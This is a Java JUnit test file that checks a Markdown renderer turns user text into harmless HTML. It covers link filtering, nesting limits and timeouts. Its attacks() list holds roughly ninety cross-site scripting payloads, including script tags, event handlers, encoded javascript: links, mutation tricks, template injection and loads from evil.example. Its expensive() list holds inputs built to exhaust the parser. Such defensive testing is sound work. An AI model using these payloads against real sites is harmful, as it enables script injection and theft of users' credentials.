package org.crowdchange.servlet.text;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What people write, as HTML that cannot do anything. */
class MarkdownTest {
    private final Markdown markdown = new Markdown();

    private SafeHtml.Content read(String text) {
        return SafeHtml.read(markdown.html(text));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "one                        | <p>one</p>",
                "*a* and **b**              | <p><em>a</em> and <strong>b</strong></p>",
                "_a_ and __b__              | <p><em>a</em> and <strong>b</strong></p>",
                "`a < b`                    | <p><code>a &lt; b</code></p>",
                "5 > 4 & 3 < 4              | <p>5 &gt; 4 &amp; 3 &lt; 4</p>",
                "# not a heading            | <p># not a heading</p>",
                "\\*plain\\*                | <p>*plain*</p>",
                "''                         | ''"
            })
    void theSmallPartOfMarkdownIsTurnedIntoHtml(String text, String html) {
        assertThat(markdown.html(text)).isEqualTo(html);
    }

    @Test
    void linesBreakWhereTheyWereBrokenAndParagraphsWhereALineIsEmpty() {
        assertThat(read("one\ntwo\n\nthree").names()).containsExactly("p", "br", "p");
    }

    @Test
    void listsQuotationsAndCodeKeepTheirShape() {
        assertThat(read("- a\n- b").names()).containsExactly("ul", "li", "li");
        assertThat(read("3. a\n4. b").elements().get(0).attributes()).containsEntry("start", "3");
        assertThat(read("> said\n> so").names()).containsExactly("blockquote", "p", "br");
        assertThat(read("```java\nint a;\n```").names()).containsExactly("pre", "code");
        assertThat(read("    int a;").names()).containsExactly("pre", "code");
    }

    @ParameterizedTest
    @CsvSource({
        "[a](https://example.org/x?y=1&z=2#f), https://example.org/x?y=1&z=2#f",
        "[a](http://example.org), http://example.org",
        "[a](HTTPS://example.org), HTTPS://example.org",
        "[a](mailto:desk@example.org), mailto:desk@example.org",
        "<https://example.org/a>, https://example.org/a",
        "<desk@example.org>, mailto:desk@example.org",
        "[a](<https://example.org/a b>), https://example.org/a%20b"
    })
    void linksLeadToTheWebAndToMail(String text, String href) {
        assertThat(read(text).links()).containsExactly(href);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[words](/relative)",
                "[words](//evil.example)",
                "[words](ftp://example.org)",
                "[words](#anchor)",
                "[words](?query)",
                "[words]()",
                "[words](data:text/html,x)",
                "[words](javascript:alert(1))",
                "![words](https://example.org/pixel.gif)",
                "![words](https://example.org/pixel.gif \"title\")"
            })
    void otherLinksAndImagesAreTheirWords(String text) {
        SafeHtml.Content content = read(text);

        assertThat(content.names()).containsExactly("p");
        assertThat(content.text()).isEqualTo("words");
    }

    @Test
    void anImageInALinkLeavesTheLink() {
        SafeHtml.Content content = read("[![words](https://e.example/i.png)](https://example.org)");

        assertThat(content.names()).containsExactly("p", "a");
        assertThat(content.text()).isEqualTo("words");
    }

    /** Ways in which scripts have got through filters: tags, attributes, schemes, encodings, broken nesting, templates. */
    static List<String> attacks() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"x\" onerror=\"alert(1)\"",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href='https://example.org' onclick='alert(1)'>x</a>",
                "<body onload=alert(1)>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<link rel=stylesheet href=//evil.example>",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<base href=\"https://evil.example/\">",
                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
                "<embed src=\"//evil.example/x.swf\">",
                "<form action=\"https://evil.example\"><input name=password></form>",
                "<input onfocus=alert(1) autofocus>",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=alert(1)></video>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<title></title><script>alert(1)</script>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo '<script>alert(1)</script>'; ?>",
                "<!DOCTYPE html><script>alert(1)</script>",
                "</p></div><script>alert(1)</script>",
                "</crowd-discussion><script>alert(1)</script>",
                "<crowd-ideas campaign=x prefix=//evil.example></crowd-ideas>",
                "<p id=crowd-comment-1 class=x data-x=1 slot=y is=z>x</p>",
                "<img src=x:alert(1)//`onerror=eval(src)>",
                "<<script>alert(1);//<</script>",
                "\"><script>alert(1)</script>",
                "'-alert(1)-'",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](  javascript:alert(1))",
                "[x](<java\tscript:alert(1)>)",
                "[x](java&#10;script:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](&#106;&#97;&#118;&#97;script:alert(1))",
                "[x](&#x6A&#x61;vascript:alert(1))",
                "[x](\\javascript:alert(1))",
                "[x](%6aavascript:alert(1))",
                "[x](\u0001javascript:alert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](file:///etc/passwd)",
                "[x](blob:https://journal.example/1)",
                "[x](view-source:javascript:alert(1))",
                "[x](https://a.example\"onmouseover=\"alert(1))",
                "[x](https://a.example '\"><script>alert(1)</script>')",
                "[x](https://a.example \"onmouseover=alert(1)\")",
                "[x](<https://a.example\"><script>alert(1)</script>>)",
                "[x]: javascript:alert(1)\n\n[x]",
                "[x]: https://a.example \"><script>alert(1)</script>\"\n\n[x]",
                "[<script>alert(1)</script>](https://a.example)",
                "[a](https://a.example\n\"onclick=alert(1))",
                "![x](javascript:alert(1))",
                "![\"onerror=alert(1)](x)",
                "![x](x \"onerror=alert(1)\")",
                "<javascript:alert(1)>",
                "<https://a.example/\"onclick=alert(1)>",
                "<https://a.example/<script>alert(1)</script>>",
                "`<script>alert(1)</script>`",
                "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
                "```js onload=alert(1)\nx\n```",
                "    </code></pre><script>alert(1)</script>",
                "> <script>alert(1)</script>",
                "- <img src=x onerror=alert(1)>",
                "1. <svg/onload=alert(1)>",
                "**<b onmouseover=alert(1)>x</b>**",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "&#x3C;img src=x onerror=alert(1)&#x3E;",
                "\\<script>alert(1)\\</script>",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "\ufeff<script>alert(1)</script>",
                "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
                "{{constructor.constructor('alert(1)')()}}",
                "${alert(1)} #{7*7} <%= 7*7 %>",
                "\u202e<script>alert(1)</script>",
                "\ud800<script>alert(1)</script>");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void anAttackIsNothingButText(String text) {
        SafeHtml.Content content = read(text);

        for (String link : content.links()) {
            assertThat(link).startsWith("https://a.example");
        }
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void anAttackInsideOfOtherMarkupIsNothingButText(String text) {
        Stream.of(
                        "**%s**",
                        "[%s](https://a.example)", "> %s", "- %s", "`%s`", "*%s", "%s\n%s", "1. a\n\n   %s", "![%s](x)")
                .map(around -> around.replace("%s", text))
                .forEach(this::read);
    }

    @Test
    void theTestsOwnReaderKnowsHarmWhenItSeesIt() {
        for (String harm : List.of(
                "<script>",
                "<p onclick=\"x\">a</p>",
                "<a href=\"javascript:x\" rel=\"nofollow ugc noopener\">a</a>",
                "<a href=\"https://a.example\">a</a>",
                "<a href=\"&#106;avascript:x\" rel=\"nofollow ugc noopener\">a</a>",
                "<p>a",
                "a</p>",
                "<em><strong>a</em></strong>",
                "<img src=x>",
                "<p class=x>a</p>",
                "a < b",
                "a & b",
                "<!-- x -->")) {
            assertThatThrownBy(() -> SafeHtml.read(harm)).isInstanceOf(AssertionError.class);
        }
    }

    @Test
    void nestingEndsWhereNobodyReadsOn() {
        assertThat(read("> ".repeat(500) + "deep").names())
                .filteredOn("blockquote"::equals)
                .hasSizeBetween(5, 20);
        assertThat(read("*a **b ".repeat(500) + "deep" + "** *".repeat(500)).names())
                .filteredOn(name -> name.equals("em") || name.equals("strong"))
                .isNotEmpty();
        assertThat(depth(markdown.html("*a **b ".repeat(500) + "deep" + "** *".repeat(500))))
                .isLessThan(30);
    }

    /** How many elements are open at once at most. */
    private static int depth(String html) {
        int depth = 0;
        int deepest = 0;
        for (int i = 0; i + 1 < html.length(); i++) {
            if (html.charAt(i) == '<' && !html.startsWith("<br", i)) {
                depth += html.charAt(i + 1) == '/' ? -1 : 1;
                deepest = Math.max(deepest, depth);
            }
        }
        return deepest;
    }

    static Stream<String> expensive() {
        return Stream.of(
                        ">",
                        "> ",
                        "- ",
                        "*",
                        "**",
                        "_",
                        "[",
                        "![",
                        "]",
                        "(",
                        "`",
                        "~",
                        "\\",
                        "&",
                        "<",
                        "<!--",
                        "<a ",
                        "[a](",
                        "*a ",
                        "**a *b ",
                        "[]()",
                        "1. ",
                        "\t",
                        "a**b",
                        "<https://a.example/>",
                        "&#60;")
                .map(part -> part.repeat(10_000 / part.length()));
    }

    @ParameterizedTest
    @MethodSource("expensive")
    void aTextMadeToBeExpensiveIsNot(String text) {
        SafeHtml.read(Assertions.assertTimeoutPreemptively(Duration.ofSeconds(5), () -> markdown.html(text)));
        SafeHtml.read(markdown.html(text.replace(' ', '\n')));
    }

    @Test
    void theSameTextGivesTheSameHtmlEachTime() {
        String text = "Some *words* and a [link](https://example.org)";

        assertThat(markdown.html(text)).isEqualTo(markdown.html(text)).isEqualTo(new Markdown().html(text));
    }
}
